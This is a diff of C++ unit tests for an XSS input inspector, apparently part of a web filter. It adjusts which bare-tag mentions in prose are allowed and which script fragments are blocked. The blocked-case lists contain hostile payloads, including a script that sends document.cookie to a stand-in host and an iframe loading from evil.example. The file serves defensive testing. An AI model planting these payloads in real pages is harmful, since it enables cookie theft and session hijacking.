@@ -220,20 +220,24 @@ TEST(XssJsSink, CallFollowedByCodeOrALineBreakIsBlocked) {
 }
 
 // The bare tag named in prose: what follows cannot be a script body (two plain words side by
-// side are a syntax error), and a bare frame loads nothing.
+// side are a syntax error), and a bare frame loads nothing. The word "tag" or "element"
+// right after names the tag even at the end of a sentence or a remark.
 TEST(XssTagMention, BareTagFollowedByProseIsAllowed) {
   for (const char* v : {"How do I escape <script> tags in a template?",
                         "<iframe> embedding is not allowed on our forum, right?",
-                        "the <object> element is deprecated here"}) {
+                        "the <object> element is deprecated here", "How do I escape <script> tags?",
+                        "Fix XSS in comments (sanitize <script> tags) and SQLi", "<script> tags",
+                        "strip <iframe> elements."}) {
     EXPECT_FALSE(Flagged(InspectQueryValue(v))) << v;
   }
 }
 
 TEST(XssTagMention, BareTagFollowedByCodeIsBlocked) {
-  for (const char* v : {"<script>alert(1)", "<script>var a = document.cookie",
-                        "<script>x in y</script>", "<script> tags", "<script>",
-                        "<script>new Image().src='//e.example/'+document.cookie</script>",
-                        "<iframe src=\"https://evil.example/\"> look here"}) {
+  for (const char* v :
+       {"<script>alert(1)", "<script>var a = document.cookie", "<script>x in y</script>",
+        "<script> tags;alert(1)", "<script> tags:alert(1)", "<script> tags\nalert(1)", "<script>",
+        "<script>new Image().src='//e.example/'+document.cookie</script>",
+        "<iframe src=\"https://evil.example/\"> look here"}) {
     Verdict r = InspectQueryValue(v);
     EXPECT_TRUE(Flagged(r)) << v;
     EXPECT_TRUE(HasCategory(r, Category::kXss)) << v;
